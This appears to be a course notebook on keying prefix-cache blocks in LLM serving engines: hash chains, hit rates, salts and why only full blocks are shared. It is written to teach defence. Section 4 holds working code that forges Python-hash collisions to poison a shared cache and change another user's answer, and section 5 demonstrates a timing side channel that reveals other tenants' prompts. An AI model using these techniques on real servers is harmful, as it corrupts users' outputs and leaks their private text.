# %% [markdown]
# # 04 · When are two blocks the same?
#
# **A server finds 12 % of its prompt tokens in the prefix cache. Somebody changes one line, and it finds 67 %. Which line was it?**
#
# Afterwards you can
# - say what the key of a block must contain, what must stay out, and show either on a real model,
# - tell a key that is safe from one that hands a user somebody else's text,
# - find out why a prefix cache finds little,
# - explain why only full blocks are shared (it is not the reason that one usually reads).
#
# 35 minutes · Difficulty ●●●○○ · Needs nothing but the bundled model. All cells together run in about half a minute. Before it: [01 · What does one token weigh?](01_kv_sizing.ipynb). Words: the [glossary](glossary.ipynb).

# %%
import random
import subprocess
import sys
import time
from hashlib import sha256
from types import SimpleNamespace

import numpy as np
import torch

from pagedkv_lab import Engine, Parts, SamplingParams, load_model, show
from pagedkv_lab.blocks import BlockManager, hash_block
from pagedkv_lab.course.claims import Claims
from pagedkv_lab.show import show_source

model = load_model("SmolLM2-135M-Instruct")

# %% [markdown]
# ## 1. The same sixteen tokens
#
# A block of the cache holds keys and values of 16 tokens. Another request has the same 16 tokens: may it use the block? Let the model answer. Here are 16 tokens, each time at positions 16 to 31, after two different beginnings:

# %%
block = model.encode("It was late in the evening, and nobody had come to open the door for hours")[:16]
past_a = model.encode("The dog chased the cat up the old oak tree, and then it waited at the bottom")[:16]
past_b = model.encode("Our new bank has opened a branch in the centre of the town, beside the station")[:16]


def keys_and_values(token_ids):
    """Per layer: keys and values, each [KV heads, tokens, head_dim]."""
    with torch.inference_mode():
        _, cache = model.hf(torch.tensor([token_ids], device=model.device)).to_tuple()
    return [(layer.keys[0], layer.values[0]) for layer in cache.layers]


def difference(one, other):
    """How far apart two tensors are, as a share of their size."""
    return ((one - other).norm() / one.norm()).item()


after_a, after_b, again = (keys_and_values(past + block) for past in (past_a, past_b, past_a))
print("layer    keys differ by   values differ by")
for layer in (0, 1, 2, 10, 20, 29):
    k, v = (difference(after_a[layer][i][:, 16:], after_b[layer][i][:, 16:]) for i in (0, 1))
    print(f"{layer:>5}    {k:>14.0%}   {v:>16.0%}")
same_past = max(difference(a, b) for one, two in zip(after_a, again, strict=True) for a, b in zip(one, two, strict=True))
print(f"\nafter the same beginning: {same_past:.0%} in all layers")

# %% [markdown]
# Layer 0 sees the token and its position, nothing else, so its keys and values are equal. From layer 1 on each token has looked at the tokens before it, and from there on everything depends on the past; in the last layer two thirds of the values are different. With the same past, all of it is the same.
#
# So the answer is no, unless everything *before* the block is the same, too. Sixteen equal tokens are not enough.

# %% [markdown]
# ## 2. A key that knows the past
#
# The prefix cache is a dictionary from a **key** to a block. The key has to stand for the block's tokens and for all tokens before. One could hash the whole past for each block; that is work for each block again, and more for each one. The **hash chain** puts the past in with one more argument: the key of the block before, which already stands for everything up to there.

# %%
show_source(hash_block)

# %% [markdown]
# Three prompts with their keys. The blocks have 8 tokens here, to fit into the picture:

# %%
texts = {
    "request 1": "You help at the desk of a library. Answer in one line. When do you open on Saturday mornings?",
    "request 2": "You help at the desk of a library. Answer in one line. What does a new card cost for a child?",
    "request 3": "You help at the desk of a museum. Answer in one line. What does a new card cost for a child?",
}
prompts = {name: model.encode(text) for name, text in texts.items()}
tokens = {name: [model.decode([token]) for token in ids] for name, ids in prompts.items()}


def block_keys(token_ids, hash_block=hash_block, block_size=16):
    """The key of each full block."""
    keys = []
    for start in range(0, len(token_ids) // block_size * block_size, block_size):
        parent = keys[-1] if keys else None
        keys.append(hash_block(parent, token_ids[start : start + block_size]))
    return keys


show.hash_chains(tokens, {name: block_keys(ids, block_size=8) for name, ids in prompts.items()}, block_size=8)

# %% [markdown]
# *Requests 1 and 2 share their first block. Request 3 says “museum”: from there on nothing is shared, although its second block and the one after have the very tokens of request 2. The last tokens fill no block and have no key.*
#
# Now leave the parent out, which is the most natural mistake there is:

# %%
def without_parent(parent, token_ids, extra=()):
    return sha256(repr((token_ids, extra)).encode()).digest()


show.hash_chains(
    tokens, {name: block_keys(ids, without_parent, block_size=8) for name, ids in prompts.items()}, block_size=8
)

# %% [markdown]
# *“same key, other past” is the picture's word for a mistake. Both blocks go by one key, and the cache keeps the first. Whoever sends request 3 once more finds the museum's first block, and then the library's second and third.*
#
# Nothing looks wrong from outside: the cache reports hits.

# %% [markdown]
# ## 3. One line
#
# Here is the traffic of a help desk. Three assistants have a system prompt of 200 tokens each. Sixty conversations come in, each with one of the assistants: the user pastes a text of their own, 100 to 300 tokens, and asks; half of them ask once more after the answer. About every seventh prompt is sent again unchanged, because the user pressed *regenerate*. The conversations take turns.

# %%
def help_desk(seed=6, own_system_prompts=False):
    """Requests in order of arrival, as (prompt, answer): token ids."""
    rng = random.Random(seed)

    def some(low, high):
        return [rng.randrange(17, 49_152) for _ in range(rng.randint(low, high))]

    system_prompts = [some(200, 200) for _ in range(3)]
    conversations = []
    for _ in range(60):
        history = some(200, 200) if own_system_prompts else rng.choice(system_prompts)
        history, requests = history + some(100, 300), []
        for _ in range(rng.randint(1, 2)):
            prompt, answer = history + some(20, 60), some(60, 180)
            requests += [(prompt, answer)] * (2 if rng.random() < 1 / 7 else 1)
            history = prompt + answer
        conversations.append(requests)
    return [requests[turn] for turn in range(4) for requests in conversations if turn < len(requests)]


def hit_rate(requests, block_keys):
    """Share of the prompt tokens that are found in a cache that never forgets."""
    known, found, asked = set(), 0, 0
    for prompt, answer in requests:
        keys, hits = block_keys(prompt), 0
        while hits < len(keys) and keys[hits] in known:  # stop at the first miss
            hits += 1
        found += min(16 * hits, len(prompt) - 1)  # the last token is always computed
        asked += len(prompt)
        known.update(keys, block_keys(prompt + answer))
    return found / asked


requests = help_desk()
sent = sum(len(prompt) for prompt, _ in requests)
print(f"{len(requests)} requests, {sent:,} prompt tokens, {len({tuple(p) for p, _ in requests})} different prompts")

# %% [markdown]
# And here are two ways to key it. They differ in one line:

# %%
def keys_of_the_whole(token_ids):
    keys = []
    for _ in range(0, len(token_ids) // 16 * 16, 16):
        block = token_ids  # this line
        keys.append(hash_block(keys[-1] if keys else None, block))
    return keys


def keys_of_blocks(token_ids):
    keys = []
    for start in range(0, len(token_ids) // 16 * 16, 16):
        block = token_ids[start : start + 16]  # this line
        keys.append(hash_block(keys[-1] if keys else None, block))
    return keys


whole, by_block = hit_rate(requests, keys_of_the_whole), hit_rate(requests, keys_of_blocks)
print(f"the whole sequence in each key: {whole:.0%} of the tokens are found")
print(f"each block in its key:          {by_block:.0%}")

# %% [markdown]
# That is the line. With the whole sequence in each key, a prompt finds something only if it is equal *to the end*: the regenerated ones, and that is the 12 %. With one block in each key, it finds everything up to where it parts from what was there before: system prompts, and the history of its own conversation.
#
# Both numbers belong to this traffic, which was chosen to have them. Without the regenerate button the first would be 0. With longer pasted texts, which nobody else has, the second falls. Other users with the same habits:

# %%
for seed in range(3):
    others = help_desk(seed)
    print(f"{hit_rate(others, keys_of_the_whole):.0%} -> {hit_rate(others, keys_of_blocks):.0%}")

# %% [markdown]
# ## 4. Not Python's `hash`
#
# `hash` is built in and fast. Two things are wrong with it. The first shows when a process starts anew, or when a second server is to use the same keys:

# %%
program = "import hashlib; print(hash('team-7') % 10**6, hash((1, 2, 3)) % 10**6, hashlib.sha256(b'team-7').hexdigest()[:6])"
print("            hash of a text   hash of numbers   sha256 of a text")
for seed in ("1", "2"):
    out = subprocess.run([sys.executable, "-c", program], env={"PYTHONHASHSEED": seed}, capture_output=True, text=True)
    print("process {}  {:>14}   {:>15}   {:>16}".format(seed, *out.stdout.split()))

# %% [markdown]
# For a text the built-in hash is seeded anew in each process (here we set the seeds). Keys with a salt in them would be worth nothing after a restart.
#
# For numbers it is not seeded, and that is the second thing, and worse. Tokens are numbers. Anybody can compute these hashes at home, and nothing in them was made to resist:

# %%
print("hash(-1) == hash(-2):     ", hash(-1) == hash(-2))
print("hash(2**61 - 1) == hash(0):", hash(2**61 - 1) == hash(0))

# %% [markdown]
# No token has such a number, so perhaps it does not matter? Let us attack it with tokens that exist. A company's prompts all begin with the same 16 tokens. The attacker knows them, and wants another block with the same hash, one that begins as *they* like.
#
# Trying at random takes 2⁶⁴ attempts. But Python's hash of a tuple takes one number after the other, and each step can be undone. So walk forward from the beginning through two free tokens, walk back from the end through two free tokens, and look where the two meet; a fifth token closes the last gap. (It is a *meet in the middle*, done with numpy. Skip the code if you like; what counts is how long it takes.)

# %%
PRIME_1, PRIME_2, START = np.array([11400714785074694791, 14029467366897019727, 2870177450012600261], np.uint64)
UNDO_1, UNDO_2 = np.array([pow(int(prime), -1, 2**64) for prime in (PRIME_1, PRIME_2)], np.uint64)
TOKENS = np.arange(17, 49_152, dtype=np.uint64)  # without the special tokens


def step(state, token):
    """What Python's hash of a tuple does with the next number (Objects/tupleobject.c); all modulo 2**64."""
    state = state + token * PRIME_2
    return (state << np.uint64(31) | state >> np.uint64(33)) * PRIME_1


def undo(state):
    """The state plus token * PRIME_2 from which `step` came here."""
    state = state * UNDO_1
    return state >> np.uint64(31) | state << np.uint64(33)


def block_with_the_hash_of(victim, beginning):
    """16 tokens that begin with these 11 and have the same hash as the victim's 16."""
    end = begin = START
    with np.errstate(over="ignore"):
        for token in np.array(victim, np.uint64):
            end = step(end, token)
        for token in np.array(beginning, np.uint64):
            begin = step(begin, token)
        # Backward through the last two tokens: what the 14th must lead to. 16 million of them, sorted.
        before_last = undo(end) - TOKENS[:340] * PRIME_2
        wanted = undo((undo(before_last)[:, None] - TOKENS * PRIME_2).ravel()) * UNDO_2
        in_order = np.sort(wanted)
        for twelfth in TOKENS:  # forward through two tokens, until the 14th is all that is missing
            reached = step(step(begin, twelfth), TOKENS) * UNDO_2
            reached_in_order = np.sort(reached)
            at = np.searchsorted(in_order, reached_in_order + TOKENS[0])
            missing = in_order[at % len(in_order)] - reached_in_order
            for i in np.flatnonzero((missing >= TOKENS[0]) & (missing <= TOKENS[-1]))[:1]:
                thirteenth = TOKENS[reached == reached_in_order[i]][0]
                row, column = divmod(int(np.flatnonzero(wanted == in_order[at[i]])[0]), len(TOKENS))
                return [*beginning, *map(int, (twelfth, thirteenth, missing[i], TOKENS[column], TOKENS[row]))]
    raise ValueError("no such block: try another beginning")


notice = "Notice: all payments go to our own bank in Oslo. Keep every receipt for a year. "
company = model.encode(notice)[:16]
attack = model.encode("Notice: all payments go to our own bank in Cairo.")[:11]

started = time.perf_counter()
forged = block_with_the_hash_of(company, attack)
seconds = time.perf_counter() - started
print("the company's block:", repr(model.decode(company)))
print("the attacker's:     ", repr(model.decode(forged)))
print("the same hash:      ", hash(tuple(company)) == hash(tuple(forged)), "- in under a minute:", seconds < 60)

# %% [markdown]
# 64 bits, and a laptop needs seconds. Now the attacker sends that block to a server that keys with `hash`, and then the company's customer asks:

# %%
def pythons_hash(parent, token_ids, extra=()):
    return hash((parent, tuple(token_ids), extra))


question = model.encode(notice + "Question: in which city is the bank? Answer: the bank is in")
few = SamplingParams(max_tokens=4)


def answer_after(first, second, **options):
    """What an engine answers to the second prompt when the first was there before; and how much it found."""
    engine = Engine(model, num_gpu_blocks=64, max_model_len=512, **options)
    for prompt in (first, second):
        [output] = engine.generate([prompt], few, use_tqdm=False)
    return f"{output.text.strip()!r} (found {output.num_cached_tokens} tokens)"


broken = Parts(hash_block=pythons_hash)
print("nobody was there before:     ", answer_after([5], question))
print("Python's hash, the attacker: ", answer_after([*forged, 30], question, parts=broken))
print("sha256, the attacker:        ", answer_after([*forged, 30], question))

# %% [markdown]
# The customer's own prompt says Oslo. The customer's request found the attacker's block under its key, and the model read Cairo.
#
# That is why an engine needs a hash that was made to resist: sha256. It happened in the field: CVE-2025-25183 is vLLM's use of the built-in hash, which 0.7.2 ended. (From Python 3.12 on even `hash(None)` is a constant, and `None` was the first parent.) Note what did *not* happen: nothing raised. A guard can catch an allocator that hands out a block twice; a key that is equal when it should not be looks like a hit.

# %% [markdown]
# ### Weak in other ways
#
# No attacker is needed. A sum of the tokens forgets their order. Two patients' files, the second one asked about after the first:

# %%
def sum_of_tokens(parent, token_ids, extra=()):
    return (parent, sum(token_ids), extra)


file_1 = model.encode("Patient file. Anna is allergic to nuts and Tom is allergic to milk. What is Tom allergic to? Tom is allergic to")
file_2 = model.encode("Patient file. Tom is allergic to nuts and Anna is allergic to milk. What is Tom allergic to? Tom is allergic to")
print("file 2, keyed by sha256:", answer_after(file_1, file_2))
print("file 2, keyed by a sum: ", answer_after(file_1, file_2, parts=Parts(hash_block=sum_of_tokens)))

# %% [markdown]
# And a hash is only as good as what is written into it. `"1" + "23"` is `"12" + "3"`: unless each piece is written with its end or its length, two different inputs are the same bytes before any hash has begun.

# %%
def run_together(parent, token_ids, extra=()):
    return sha256((str(parent) + "".join(map(str, token_ids))).encode()).digest()


print("run together, [1, 23] and [12, 3] have the same key:", run_together(None, [1, 23]) == run_together(None, [12, 3]))
print("hash_block, which writes lengths first:             ", hash_block(None, [1, 23]) == hash_block(None, [12, 3]))

# %% [markdown]
# ## 5. Salts: sharing with whom?
#
# All of this is about keys that are equal and should not be. There is also the user who finds exactly what is there, and learns from that. A hit is fast. So whoever can send prompts can ask the cache: *has somebody else sent this text?* (CVE-2025-46570; vLLM has salts since 0.9.)
#
# A tenant has sent a confidential text. A stranger tries two guesses and looks at the time to the first token, nothing else:

# %%
from pagedkv_lab.measure.workloads import SYSTEM_PROMPT

secret = model.encode(SYSTEM_PROMPT)[:512]
wrong_guess = model.encode(SYSTEM_PROMPT.replace("library", "theatre"))[:512]
one = SamplingParams(max_tokens=1)


def guess(tenant, stranger):
    """Times to the first token of a wrong and of a right guess, where the tenant has sent the secret before."""
    engine = Engine(model, num_gpu_blocks=256, max_model_len=1024)
    engine.generate([[*secret, 30]], one, use_tqdm=False, cache_salt=tenant)
    return [
        engine.generate([[*guessed, 31]], one, use_tqdm=False, cache_salt=stranger)[0].ttft_s
        for guessed in (wrong_guess, secret)
    ]


def verdict(times):
    return "the right guess is several times faster" if times[0] > 3 * times[1] else "no difference to speak of"


print("one cache for all:  ", verdict(guess(None, None)))
print("a salt for each one:", verdict(guess("team-7", "team-8")))

# %% [markdown]
# The answer is the **cache salt**: a text that goes into the first block's key, and by the chain into all that follow. Requests share blocks only with requests of the same salt, and the salt is the tenant's secret. Within a tenant everything is shared as before. Here two tenants send the same prompt twice each; watch who shares with whom:

# %%
story = [{"role": "user", "content": "Tell me in two sentences how a paper boat is folded and where it should sail."}]
engine = Engine(model, num_gpu_blocks=48, max_model_len=512)
for salt in ("team-7", "team-8", "team-7", "team-8"):
    engine.add_request(story, SamplingParams(max_tokens=40), cache_salt=salt)
outputs = show.watch(engine)
print("tokens found:", {f"request {output.request_id}": output.num_cached_tokens for output in outputs})

# %% [markdown]
# *Requests 1 and 3 hold the same blocks, and so do 2 and 4. Nobody shares across.*
#
# **What must be in a key**: everything that changes keys and values, or who may see them. The tokens and their past; the salt; the LoRA adapter, which is another model; for images the hash of the image, because every image is the same run of placeholder tokens.
#
# **What must stay out**: everything else. The request's number, its time of arrival, temperature and seed, the user's place in the queue. Each of them makes the key of every request its own, and the hit rate 0. A position is a case for itself: it is in the chain already, because equal pasts have equal lengths.

# %% [markdown]
# ## 6. Why only full blocks?
#
# The article says (§3.2, §4.3): because the tokens that follow differ, and the keys and values of the partial block would differ with them. Let the model say whether that is so. Five tokens of a block, followed by nothing, and followed by something:

# %%
alone = keys_and_values(past_a + block[:5])
followed = keys_and_values(past_a + block[:5] + model.encode(" and something else that follows here"))
later = max(difference(a, b[:, :21]) for one, two in zip(alone, followed, strict=True) for a, b in zip(one, two, strict=True))
print(f"the keys and values of the five tokens differ by {later:.2%}")

# %% [markdown]
# Not at all. Attention looks back and never forward, so what comes later cannot change what is there. The reasons are others:
#
# - **The block is still being written.** Its next slot belongs to somebody. A second sequence that shares it has another token for that slot, so one of them must copy the block first (that is what a fork does: chapter 06).
# - **Its key would not last.** A key stands for the tokens in the block. Each further token makes another key, so there would be up to 16 entries a block to make and to drop, at each step of each sequence.
# - **It would gain little.** On average half a block a prompt: 8 tokens here.
#
# SGLang's RadixAttention does match token by token, with a tree in place of keys. It is possible. It is a choice.

# %% [markdown]
# ## 7. What does a key cost?

# %%
def seconds_for(function, times):
    """The best of five rounds, for one call."""
    rounds = []
    for _ in range(5):
        started = time.perf_counter()
        for _ in range(times):
            function()
        rounds.append((time.perf_counter() - started) / times)
    return min(rounds)


parent = hash_block(None, block)
ours = seconds_for(lambda: hash_block(parent, block), 2000)
builtin = seconds_for(lambda: pythons_hash(parent, block), 2000)
compute = seconds_for(lambda: keys_and_values(past_a + block), 1) / 2  # 32 tokens are two blocks
print("sha256 takes more than twice as long as hash():      ", ours > 2 * builtin)
print("computing a block takes over 1,000 times as long as its key:", compute > 1000 * ours)

# %% [markdown]
# A key costs a microsecond or two, its block milliseconds. There is nothing to be saved by a weaker hash. (`hash_blocks`, beside `hash_block` in the package, makes the same keys for a whole prompt in half the time.)

# %% [markdown]
# ## Check the article
#
# What §3.1, §3.2, §4.3 and §5.2 say about keys and hits, one by one.

# %%
article = Claims()

shared = model.encode(SYSTEM_PROMPT)[:500]
engine = Engine(model, num_gpu_blocks=256, max_model_len=1024)
for user in range(3):  # all in the same step
    engine.add_request([*shared, 40 + user], one)
together = engine.step()
[after] = engine.generate([[*shared, 50]], one, use_tqdm=False)
article.check(
    "§3.1", "With a fixed system prompt, every request after the first skips computing it",
    measured=f"500 shared tokens: {after.num_cached_tokens} skipped by a later request, {together.hit_tokens} by the "
    "second and third of three in the same step",
    holds=after.num_cached_tokens == 496 and together.hit_tokens == 2 * 496,
    condition="full blocks only, and as long as the blocks are not needed for something else",
    why="“After” need not mean later: in this engine, requests of the same step share as well.",
)

# %%
pasts, keys = set(), set()
for prompt, response in requests:
    whole_text = prompt + response
    chain = block_keys(whole_text)
    keys.update(chain)
    pasts.update(tuple(whole_text[: 16 * (i + 1)]) for i in range(len(chain)))
article.check(
    "§3.2", "key of block i = hash(tokens of block i, key of block i-1)",
    measured=f"help desk traffic: {len(pasts):,} different beginnings, {len(keys):,} different keys",
    holds=len(pasts) == len(keys),
    condition="what else decides about keys and values goes in, too: salt, LoRA adapter, images",
)

# %%
collides = pythons_hash(None, company) == pythons_hash(None, forged)
resists = hash_block(None, company) != hash_block(None, forged)
article.check(
    "§3.2", "The chain guarantees that only a completely equal prefix is found",
    measured=f"sha256: the two blocks of section 4 have {'different keys' if resists else 'one key'}; "
    f"Python's hash: {'one key' if collides else 'different keys'}",
    holds=resists,
    condition="with a hash that nobody can make collide",
)

# %%
article.check(
    "§3.2", "Only full blocks can be reused, because the keys and values of a partial one depend on the tokens that follow",
    measured=f"a partial block with and without tokens after it differs by {later:.2%}",
    holds=later > 0.01,
    why="Attention never looks forward. The rule is right, its reason is another: a partial block is still being "
    "written, and its key would change with each token. §4.3 repeats the same reason.",
)

# %%
def sequence(number, token_ids):
    """What the block manager wants to know of a sequence."""
    return SimpleNamespace(
        seq_id=number, name=f"request {number}", token_ids=list(token_ids), num_computed_tokens=0, block_keys=[],
        extra_keys=(),
    )


def blocks_used(num_requests):
    manager = BlockManager(1000, 16)
    prefix = [7] * 2048
    for number in range(1, num_requests + 1):
        seq = sequence(number, [*prefix, 1000 + number])
        seq.num_computed_tokens = manager.admit(seq, manager.lookup(seq))
        manager.append(seq, len(seq.token_ids) - seq.num_computed_tokens)
    return manager.counts().used - num_requests  # each has one block of its own, for its last token


used = {n: blocks_used(n) for n in (1, 10, 100)}
article.check(
    "§3.2", "100 requests with the same 2,048 tokens hold 128 blocks once, and the saving is linear",
    measured="shared blocks with 1, 10 and 100 requests: " + ", ".join(map(str, used.values()))
    + "; blocks saved: " + ", ".join(f"{(n - 1) * 128:,}" for n in used),
    holds=set(used.values()) == {128},
)

# %%
article.check(
    "§4.3", "For the key, take sha256, or simply Python's hash",
    measured=f"a block with a given hash() found: {hash(tuple(company)) == hash(tuple(forged))}; "
    "hash() of a salt differs from process to process",
    holds=not collides,
    why="Good enough for an experiment of one's own. Not for a server with two users.",
)

# %%
from itertools import product


def articles_text(prev_hash, token_ids):
    """What the article's compute_hash hands to sha256."""
    return f"{prev_hash}:{','.join(map(str, token_ids))}"


digest = sha256(b"any").hexdigest()
inputs = [(p, t) for p in (None, digest) for n in (1, 2, 3) for t in product((1, 2, 11, 12, 23), repeat=n)]
injective = len({articles_text(p, t) for p, t in inputs}) == len(inputs)
confused = articles_text("None", [1, 2]) == articles_text(None, [1, 2])
article.check(
    "§4.3", "The key is sha256 of str(prev_hash), a colon, and the tokens joined by commas",
    measured=f"{len(inputs)} inputs, all of them different texts: {injective}; the text 'None' as a parent is taken for "
    f"no parent: {confused}",
    holds=injective,
    condition="while prev_hash is None or one of its own digests",
    why="There is no place for a salt. Whoever passes one as the first prev_hash gives the tenant called None the cache "
    "of all who have no salt. Bytes written with their lengths have no such corner, and are shorter.",
)

# %%
article.check(
    "§5.2", "With the whole sequence in the key 12 % were found, with single blocks 67 %",
    measured=f"help desk traffic of section 3: {whole:.0%} and {by_block:.0%}",
    holds=abs(whole - 0.12) < 0.015 and abs(by_block - 0.67) < 0.015,
    condition="on a traffic that was chosen for it",
    why="The first number is the share of prompts that are sent again unchanged, the second how much prompts have in "
    "common at their beginning. Neither says anything about other traffic.",
)

# %%
own = hit_rate(help_desk(own_system_prompts=True), block_keys)
article.check(
    "§5.2", "Few hits, cause 1: the prefixes really differ, each user has a system prompt of their own",
    measured=f"{own:.0%} in the place of {by_block:.0%}",
    holds=own < by_block,
    condition="it costs what the shared system prompts brought; each conversation still finds its own history",
)

# %%
def with_random(token_ids):
    return [key + random.randbytes(4) for key in block_keys(token_ids)]


def with_position(token_ids):
    return [(i, key) for i, key in enumerate(block_keys(token_ids))]


randomly, positioned = hit_rate(requests, with_random), hit_rate(requests, with_position)
article.check(
    "§5.2", "Few hits, cause 2: a random number or a position in the key",
    measured=f"random number: {randomly:.0%}; the block's position: {positioned:.0%}, as without it",
    holds=randomly == 0,
    condition="for the random number",
    why="A position in the sequence does no harm, and no good: equal pasts have equal lengths. Harm comes from what is "
    "different in each request.",
)

# %%
def hit_rate_in_a_pool(num_blocks):
    """The same traffic through the block manager, one request after the other, with room for so many blocks."""
    manager = BlockManager(num_blocks, 16)
    for number, (prompt, response) in enumerate(requests, start=1):
        seq = sequence(number, prompt)
        seq.num_computed_tokens = manager.admit(seq, manager.lookup(seq))
        for more in (response, []):
            manager.append(seq, len(seq.token_ids) - seq.num_computed_tokens)
            manager.commit_step()
            seq.num_computed_tokens = len(seq.token_ids)
            seq.token_ids += more
        manager.free(seq)
    return manager.hit_tokens / manager.queried_tokens


rates = {num_blocks: hit_rate_in_a_pool(num_blocks) for num_blocks in (100, 200, 400, 800, 1600, 3200)}
article.check(
    "§5.2", "Few hits, cause 3: the cache is too small, and old blocks go too early",
    measured=", ".join(f"{blocks:,} blocks: {rate:.0%}" for blocks, rate in rates.items()),
    holds=rates[100] < by_block / 2 and abs(rates[3200] - by_block) < 0.01,
    why="How much is enough is the next chapter's question.",
)

# %%
show.hit_rate_by_capacity({"help desk": rates}, no_limit=by_block)

# %% [markdown]
# *The same traffic, the same keys. With little room, each conversation's blocks are gone before its next turn comes.*
#
# All of them in one table:

# %%
article

# %% [markdown]
# ## In production
#
# | here | nano-vllm | vLLM |
# |:---|:---|:---|
# | `hash_block(parent, token_ids, extra)` | `BlockManager.compute_hash(token_ids, prefix)` (`engine/block_manager.py`) | `hash_block_tokens(hash_function, parent_block_hash, curr_block_token_ids, extra_keys)` (`vllm/v1/core/kv_cache_utils.py`) |
# | sha256 over bytes with lengths | xxh64 over the parent's 8 bytes and numpy's bytes of the tokens | sha256 over Python's pickle; `prefix_caching_hash_algo` chooses others, `sha256_cbor` is the same in every process and language |
# | parent of the first block: none | none | a value drawn at start, fixed where `PYTHONHASHSEED` is set |
# | the key decides | the key finds, then the block's own tokens are compared | the key decides |
# | `extra`: salt in the first block | nothing | LoRA name, hashes of images where they begin, `cache_salt` in the first block (`generate_block_hash_extra_keys`) |
# | keys kept with the sequence | keys kept with the block | keys kept with the request |
#
# xxh64 is fast and has 64 bits; it was not made to resist anybody. nano-vllm compares the tokens of the block that it found, which catches a collision within a block. vLLM has xxhash as a choice, too.

# %% [markdown]
# ## Quiz
#
# Open a choice to see whether it is right, and why.

# %% [markdown]
# **1. Two prompts have the same 16 tokens at positions 32 to 47, and different tokens before. In which layers are the keys of these tokens equal?**
#
# <details><summary>A. In all: keys are computed from the token.</summary>
#
# > **No.** From its hidden state, and from layer 1 on that is a mix of everything before it.
#
# </details>
# <details><summary>B. In none.</summary>
#
# > **No.** In layer 0 the hidden state is the token's embedding. Token and position are the same, so the keys are.
#
# </details>
# <details><summary>C. In layer 0 only.</summary>
#
# > **Yes.** After it, attention has mixed the past in. That is why the parent belongs in the key.
#
# </details>

# %% [markdown]
# **2. A colleague keys each block by `hash((parent, tuple(token_ids)))`. All their tests pass. What do you say?**
#
# <details><summary>A. 64 bits are enough, collisions take 2³² blocks.</summary>
#
# > **No.** By accident, yes. Somebody who searches needs seconds, as you saw: each step of that hash can be undone.
#
# </details>
# <details><summary>B. Use sha256. Next to computing the block it costs nothing.</summary>
#
# > **Yes.** A microsecond or two against milliseconds, and nobody can steer it.
#
# </details>
# <details><summary>C. Set PYTHONHASHSEED to a secret value.</summary>
#
# > **No.** The seed changes the hash of texts and bytes. Tuples of numbers have the same hash with every seed.
#
# </details>
# <details><summary>D. Compare the lengths of the prompts as well.</summary>
#
# > **No.** The forged block has 16 tokens like the real one. The attacker chooses the length.
#
# </details>

# %% [markdown]
# **3. After an update the hit rate is 0, although all prompts share a long system prompt. What do you look for first?**
#
# <details><summary>A. Something new in the key that each request has for itself.</summary>
#
# > **Yes.** A request's number or time in the first key is in the whole chain. 0, and not just less, points there.
#
# </details>
# <details><summary>B. A pool that has become too small.</summary>
#
# > **No.** Then something would still be found now and then: requests that come together share before anything is evicted.
#
# </details>
# <details><summary>C. Collisions.</summary>
#
# > **No.** Collisions find too much, not too little.
#
# </details>

# %% [markdown]
# **4. Blocks have 16 tokens; a system prompt of 40 tokens is sent by all users. How many tokens does the second user find?**
#
# <details><summary>A. 40</summary>
#
# > **No.** The third block has 8 tokens of the system prompt and goes on with what is each user's own.
#
# </details>
# <details><summary>B. 48</summary>
#
# > **No.** The third block is equal in its first half only, so its key is another one.
#
# </details>
# <details><summary>C. 32</summary>
#
# > **Yes.** Two full blocks. The other 8 are computed again.
#
# </details>

# %% [markdown]
# **5. Where does a cache salt go?**
#
# <details><summary>A. Into the key of the first block.</summary>
#
# > **Yes.** The chain carries it into every later key.
#
# </details>
# <details><summary>B. Into the key of the last block.</summary>
#
# > **No.** Then all blocks but the last would be shared across tenants.
#
# </details>
# <details><summary>C. In front of the prompt, as text.</summary>
#
# > **No.** The model would read it, and it would change the answer.
#
# </details>

# %% [markdown]
# ## Key terms

# %%
from pagedkv_lab.course.glossary import key_terms

key_terms(
    "block key", "hash chain", "extra keys", "cache salt", "collision", "sha256", "side channel", "hit rate", "prefix hit",
    "prefix cache", "full block", "LoRA adapter",
)

# %% [markdown]
# ## Read on
#
# - Zheng et al., SGLang, NeurIPS 2024 ([arXiv 2312.07104](https://arxiv.org/abs/2312.07104)). Section 3: RadixAttention, a tree in place of keys.
# - vLLM's design page *Automatic Prefix Caching* ([docs.vllm.ai](https://docs.vllm.ai/en/latest/design/prefix_caching/)): the same chain, with images and salts.
# - CVE-2025-25183 ([GHSA-rm76-4mrf-v9r8](https://github.com/vllm-project/vllm/security/advisories/GHSA-rm76-4mrf-v9r8)): the built-in hash. CVE-2025-46570: the time to the first token.
# - Kwon et al., PagedAttention, SOSP 2023 ([arXiv 2309.06180](https://arxiv.org/abs/2309.06180)). Section 4.4: shared prefixes, before there were keys.
#
# Now write the keys yourself: `exercises/04_prefix_hashing`. The engine will find its blocks by them.
